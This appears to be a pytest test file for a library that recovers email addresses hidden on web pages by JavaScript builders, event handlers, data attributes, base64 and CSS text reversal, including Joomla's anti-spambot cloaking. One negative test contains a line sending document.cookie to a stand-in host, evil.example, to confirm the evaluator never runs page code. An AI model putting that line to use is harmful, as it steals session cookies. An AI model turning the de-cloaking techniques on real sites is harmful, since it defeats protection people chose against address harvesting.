"""ner.scripts and ner.hidden: addresses that scripts, handlers, data attributes and CSS hide, read safely."""

from __future__ import annotations

import base64

import pytest

from ner.html import parse_html
from ner.scripts import collect_functions, javascript_href, script_output


@pytest.mark.parametrize(("source", "written"), [
    ("document.write('<a href=\"mailto:' + 'jane' + '@' + 'acme.com' + '\">' + 'jane' + '&#64;' + 'acme.com' + '</a>');",
     '<a href="mailto:jane@acme.com">jane&#64;acme.com</a>'),
    ("document.write(String.fromCharCode(106,64,120,46,100,101));", "j@x.de"),
    ("var u='jo', d='x.de'; var a=u+'@'+d; document.write(a);", "jo@x.de"),
    ("(function(){var p=['mo','x.de'];document.write(p[0]+'@'+p[1]);})();", "mo@x.de"),
    ("(function(n, d){document.write(n + '@' + d);})('ana', 'x.de');", "ana@x.de"),
    ("document.write('ed.x@nhoj'.split('').reverse().join(''));", "john@x.de"),
    ("document.writeln(unescape('%6a%40%78%2e%64%65'));", "j@x.de"),
    ("document.write(atob('" + base64.b64encode(b"j@x.de").decode() + "'));", "j@x.de"),
    ("document.write(`${'j'}@x.de`);", "j@x.de"),
    ("el.innerHTML = 'j' + '@' + 'x.de';", "j@x.de"),
    ("window.location.href = 'mailto:' + 'j@x.de';", "mailto:j@x.de"),
    ("var s = 'j[at]x.de'.replace(/\\[at\\]/g, '@'); document.write(s);", "j@x.de"),
])
def test_scripts_evaluate_address_builders(source: str, written: str):
    assert script_output(source) == [written]


def test_scripts_call_the_pages_own_helper_functions():
    context = collect_functions(["function m(u, d) { document.write(u + '@' + d); }"])
    assert script_output("m('info', 'acme.com');", context) == ["info@acme.com"]


@pytest.mark.parametrize("source", [
    "while (true) { document.write('x@y.de'); }",             # loops are never run
    "fetch('https://evil.example/' + document.cookie + '@');",  # no page objects, no network
    "document.write(secret);",                                 # unknown names are nothing
    "function f(){ return f(); } f('@');",                      # runaway recursion stops
    "var a = '@'" + " + 'xxxxxxxxxx'" * 3000 + ";",             # too long to be an address builder
    "this is not javascript @ all",
])
def test_scripts_never_run_page_code(source: str):
    assert all("y.de" not in text for text in script_output(source))


@pytest.mark.parametrize(("href", "written"), [
    ("javascript:location.href=unescape('%6d%61%69%6c%74%6f%3a%6a%40%78%2e%64%65')", ["mailto:j@x.de"]),
    ("this.href='mailto:'+'jo'+'@'+'x.de'", ["mailto:jo@x.de"]),
    ("javascript:void(0)", []),
])
def test_scripts_read_javascript_hrefs_and_handlers(href: str, written: list[str]):
    assert javascript_href(href) == written


def _emails(markup: str) -> set[str]:
    from ner.channels import find_emails_in

    return {hit.mention.value for hit in find_emails_in(parse_html(markup))}


@pytest.mark.parametrize(("markup", "address"), [
    ("<p>Jane <script>document.write('jane' + '@' + 'acme.com')</script></p>", "jane@acme.com"),
    ("<p><a href=\"javascript:location.href='mailto:'+'jo'+'@'+'acme.com'\">Mail</a></p>", "jo@acme.com"),
    ("<p><a href='#' onclick=\"this.href='mailto:'+'jo'+'@'+'acme.com'\">Mail</a></p>", "jo@acme.com"),
    ("<p><span data-user='jo' data-domain='acme.com'></span></p>", "jo@acme.com"),
    ("<p><a data-name='jo' data-host='acme' data-tld='com' href='#'>Write</a></p>", "jo@acme.com"),
    ("<p><a data-c='" + base64.b64encode(b"jo@acme.com").decode() + "' href='#'>Write</a></p>", "jo@acme.com"),
    ("<style>.r{unicode-bidi:bidi-override;direction:rtl}</style><p><span class='r'>moc.emca@oj</span></p>",
     "jo@acme.com"),
    ("<p><span style='direction: rtl; unicode-bidi: bidi-override'>moc.emca@oj</span></p>", "jo@acme.com"),
    ("<p><bdo dir='rtl'>moc.emca@oj</bdo></p>", "jo@acme.com"),
    # Joomla 4's cloaking element: the local part and the domain base64-encoded in attributes of their own.
    ("<p><joomla-hidden-mail is-link='1' is-email='1' first='" + base64.b64encode(b"jo").decode() + "' last='"
     + base64.b64encode(b"acme.com").decode() + "'>This email address is being protected from spambots."
     "</joomla-hidden-mail></p>", "jo@acme.com"),
    ("<head><script>function m(a,b){document.write(a+'@'+b)}</script></head><p><script>m('jo','acme.com')"
     "</script></p>", "jo@acme.com"),
])
def test_hidden_addresses_are_revealed_where_they_stand(markup: str, address: str):
    assert address in _emails(f"<html>{markup}</html>")


def test_hidden_reversed_text_without_bidi_override_is_left_alone():
    # direction: rtl alone does not reorder Latin letters; only bidi-override (or <bdo>) does.
    assert "jo@acme.com" not in _emails("<p><span style='direction: rtl'>moc.emca@oj</span></p>")
